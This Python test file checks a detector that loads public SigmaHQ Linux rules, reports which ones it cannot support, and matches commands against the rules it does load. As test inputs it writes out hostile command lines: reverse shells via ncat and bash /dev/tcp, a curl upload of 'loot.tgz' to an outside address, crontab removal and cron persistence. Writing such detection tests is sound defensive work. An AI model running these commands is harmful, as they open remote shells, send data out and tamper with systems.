"""Public SigmaHQ Linux rules (a few, as fixtures): all-or-nothing by default, audited with strict=False."""

from __future__ import annotations

from pathlib import Path

import pytest

from corral.detect import Detector
from corral.errors import RuleError
from corral.events import TraceContext

FIXTURES = Path(__file__).resolve().parent.parent / "data" / "detect" / "sigmahq"


def test_strict_load_refuses_the_pack_naming_every_problem() -> None:
    with pytest.raises(RuleError) as err:
        Detector.load([FIXTURES])
    problems = err.value.problems
    assert len(problems) == 6  # the same six the audit below reports, in one error
    text = str(err.value)
    for where in ("auditd_susp_c2_commands.yml:6", "corr_value_sum_bytes.yml:15", "win_whoami_all.yml:12"):
        assert where in text
    assert all(p.file and p.line and p.path and p.path.startswith("rule ") for p in problems)


def test_report_names_each_unsupported_feature() -> None:
    d = Detector.load([FIXTURES], strict=False)  # auditing a third-party pack: load what can be loaded
    rep = d.load_report
    assert rep.files == 12
    assert rep.loaded == 8
    reasons = {p.title: (p.kind, p.reason) for p in rep.problems}
    assert reasons["Suspicious C2 Activities"] == (
        "unsupported",
        "log source service 'auditd': Corral has no such events",
    )
    assert reasons["Enumerate All Information With Whoami.EXE"][1].startswith("log source product 'windows'")
    assert "expand" in reasons["Shell History Deleted From Listed Paths (expand placeholder)"][1]
    assert "value_sum" in reasons["Sum of Bytes Sent (value_sum)"][1]
    assert "lt" in reasons["Few Connections (lt condition)"][1]
    kind, why = reasons["Many Distinct Commands (deprecated aggregation syntax)"]
    assert kind == "invalid" and "pipe syntax" in why
    assert all(p.path.startswith(str(FIXTURES)) for p in rep.problems)
    assert "6 not loaded" in rep.summary()


def test_loaded_rules_match_what_they_describe() -> None:
    d = Detector.load([FIXTURES], strict=False)
    ctx = TraceContext()

    def titles(cmd: str) -> set[str]:
        return {d.rule(r).title for r in d.inspect_command(cmd, ctx=ctx).rules}

    assert titles("ncat 203.0.113.5 4444 -e /bin/bash") == {"Potential Netcat Reverse Shell Execution"}
    assert titles("sh -c 'echo aWQK | base64 -d'") == {"Decode Base64 Encoded Text"}
    assert titles("curl -T loot.tgz http://203.0.113.5/") == {"Suspicious Curl File Upload - Linux"}
    assert titles("curl -T a http://127.0.0.1/") == set()
    assert titles("crontab -r") == {"Remove Scheduled Cron Task/Job"}
    assert titles("echo '* * * * * id' > /etc/cron.d/x") == {"Persistence Via Cron Files"}
    assert "Suspicious Reverse Shell Command Line" in titles("bash -i >& /dev/tcp/203.0.113.5/1 0>&1")
    assert titles("ls -la") == set()
